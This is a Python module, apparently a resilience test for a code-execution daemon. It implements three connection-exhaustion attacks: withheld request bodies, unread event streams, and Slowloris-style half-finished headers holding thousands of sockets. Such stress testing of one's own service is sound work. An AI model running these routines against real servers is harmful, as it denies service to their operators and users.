"""Attacks of a hostile neighbour by connections.

Each function takes the address of a daemon (host, port), the neighbour's key or None, and an event that ends the attack.  An attack opens
what it can, holds it, and opens again what the daemon has closed.
"""

import contextlib
import http.client
import json
import resource
import select
import socket

MIB = 1 << 20
BODIES, BODY = 16, 64 * MIB        # connections that withhold the last byte, and the length that each announces
READERS, OUTPUT = 400, 3 * MIB     # readers of one run's events, and bytes that the run prints
HEADS = 13000                      # connections with half a head
PAUSE = 0.05                       # seconds between two looks at the connections


# ---- attacks ----

def head_of(method, path, key, *lines):
    authorization = [f"Authorization: Bearer {key}"] if key else []
    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: localhost", *authorization, *lines]).encode()


def connect(address):
    """A connection that is not waited for, or None."""
    connection = socket.socket()
    connection.setblocking(False)
    try:
        connection.connect(address)
    except BlockingIOError:
        pass
    except OSError:
        connection.close()
        return None
    return connection


def is_closed(connection):
    """Whether the server has closed the connection or answered."""
    try:
        return len(connection.recv(65536)) >= 0
    except BlockingIOError:
        return False
    except OSError:
        return True


def close_all(connections):
    for connection in connections:
        connection.close()


def send_all(connection, left, stop):
    """Send as far as the server reads; False where it has closed."""
    while left and not stop.is_set():
        try:
            left = left[connection.send(left):]
        except BlockingIOError:
            select.select([], [connection], [], PAUSE)
        except OSError:
            return False
    return True


def attack_withheld_bodies(address, key, stop):
    """Bodies of which the last byte never comes."""
    begin = head_of("POST", "/v1/runs", key, f"Content-Length: {BODY}") + b"\r\n\r\n"
    piece, connections = b" " * MIB, {}
    while not stop.is_set():
        for connection in [one for one in connections if is_closed(one)]:
            connection.close()
            del connections[connection]
        while len(connections) < BODIES and (connection := connect(address)):
            connections[connection] = [begin, BODY - 1]
        _, writable, _ = select.select([], list(connections), [], PAUSE)
        for connection in writable:
            state = connections[connection]
            data = state[0] or piece[:min(state[1], MIB)]
            with contextlib.suppress(OSError):
                sent = connection.send(data) if data else 0
                state[0], state[1] = (state[0][sent:], state[1]) if state[0] else (b"", state[1] - sent)
        if not any(state[1] for state in connections.values()):
            stop.wait(PAUSE)
    close_all(connections)


def start_printing(address, key):
    """The id of a run whose events are kept, and are as long as they may be."""
    connection = http.client.HTTPConnection(*address, timeout=60)
    headers = {"Prefer": "respond-async", **({"Authorization": f"Bearer {key}"} if key else {})}
    code = f"import sys\nfor _ in range({OUTPUT} // 4096): sys.stdout.write('x' * 4095 + '\\n'); sys.stdout.flush()"
    connection.request("POST", "/v1/runs", json.dumps({"language": "python", "code": code, "limits": {"output_bytes": OUTPUT}}), headers)
    answer = json.loads(connection.getresponse().read())
    connection.close()
    return answer["id"]


def attack_unread_streams(address, key, stop):
    """Readers of one run's events that do not read."""
    path = f"/v1/runs/{start_printing(address, key)}/events"
    begin, connections = head_of("GET", path, key) + b"\r\n\r\n", []
    while not stop.is_set():
        gone = select.poll()
        for connection in connections:
            gone.register(connection, select.POLLRDHUP)
        closed = {fd for fd, _ in gone.poll(0)}
        for connection in [one for one in connections if one.fileno() in closed]:
            connection.close()
            connections.remove(connection)
        while len(connections) < READERS and not stop.is_set() and (connection := connect(address)):
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            select.select([], [connection], [], 1)
            send_all(connection, begin, stop)
            connections.append(connection)
        stop.wait(PAUSE)
    close_all(connections)


def attack_half_heads(address, key, stop):
    """Connections whose heads have no end."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    begin, poll, connections = head_of("GET", "/healthz", key) + b"\r\nX-Half: ", select.epoll(), {}
    most = min(HEADS, hard - 100)
    while not stop.is_set():
        while len(connections) < most and not stop.is_set() and (connection := connect(address)):
            connections[connection.fileno()] = connection
            poll.register(connection, select.EPOLLOUT | select.EPOLLET | select.EPOLLRDHUP)
            if len(connections) % 100 == 0:
                break
        for number, what in poll.poll(0 if len(connections) < most else PAUSE, 1000):
            if what & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
                connections.pop(number).close()
            else:
                with contextlib.suppress(OSError):
                    connections[number].send(begin)
    close_all(connections.values())
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
